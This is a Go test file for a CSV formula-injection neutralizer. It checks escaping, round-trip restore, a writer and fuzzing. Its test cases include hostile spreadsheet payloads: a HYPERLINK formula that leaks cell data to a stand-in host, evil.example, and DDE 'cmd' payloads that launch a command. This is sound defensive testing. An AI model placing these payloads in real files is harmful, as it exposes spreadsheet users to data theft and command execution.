package csvcell

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"
)

func TestNeutralizeAndRestore(t *testing.T) {
	for _, tc := range []struct{ in, cell string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"=SUM(1)", "'=SUM(1)"},
		{"+1", "'+1"},
		{"-x", "'-x"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"'=x", "''=x"},
		{"''=x", "'''=x"},
		{"'plain", "'plain"},
		{"'", "'"},
		{"''", "''"},
		{"plain", "plain"},
		{" =x", " =x"}, // not a trigger: spreadsheets read a leading space as text
		{"", ""},
		{"-5", "-5"},
		{"-12.50", "-12.50"},
		{"0.99", "0.99"},
		{"-", "'-"},
		{"-5.", "'-5."},
		{"-.5", "'-.5"},
		{"--5", "'--5"},
		{"-5e3", "'-5e3"},
		{"'-5", "''-5"},
	} {
		t.Run(tc.in, func(t *testing.T) {
			if got := Neutralize(tc.in); got != tc.cell {
				t.Errorf("Neutralize(%q) = %q, want %q", tc.in, got, tc.cell)
			}
			if got := Restore(tc.cell); got != tc.in {
				t.Errorf("Restore(%q) = %q, want %q", tc.cell, got, tc.in)
			}
		})
	}
}

// A spreadsheet that saved the file again wrote the text without its apostrophe; reading it back
// keeps that text.
func TestRestoreLeavesUnneutralizedCells(t *testing.T) {
	for _, s := range []string{"=x", "+1", "-5", "plain", "'plain", "'", "x'=y"} {
		t.Run(s, func(t *testing.T) {
			if got := Restore(s); got != s {
				t.Errorf("Restore(%q) = %q", s, got)
			}
		})
	}
}

func TestWriter(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	record := []string{"#1001", "=1+1", "-12.50", "@SUM(A1)", "Jordan Rivera"}
	kept := append([]string(nil), record...)
	if err := w.Write(record); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(record, kept) {
		t.Errorf("Write changed its argument: %q", record)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	want := [][]string{{"#1001", "'=1+1", "-12.50", "'@SUM(A1)", "Jordan Rivera"}}
	if err != nil || !reflect.DeepEqual(got, want) {
		t.Errorf("read back %q, %v; want %q", got, err, want)
	}
}

func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"=SUM(1)", "+1", "-x", "@x", "\tx", "\rx", "'=x", "''=x", "'plain", "-5", "-1.5", "", "'", "x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := Neutralize(s)
		if got := Restore(cell); got != s {
			t.Fatalf("Restore(Neutralize(%q)) = %q (cell %q)", s, got, cell)
		}
		if cell != "" && strings.IndexByte(triggers, cell[0]) >= 0 && (cell != s || !isPlainNumber(s)) {
			t.Fatalf("Neutralize(%q) = %q starts with %q and is not a plain number", s, cell, cell[0])
		}
	})
}
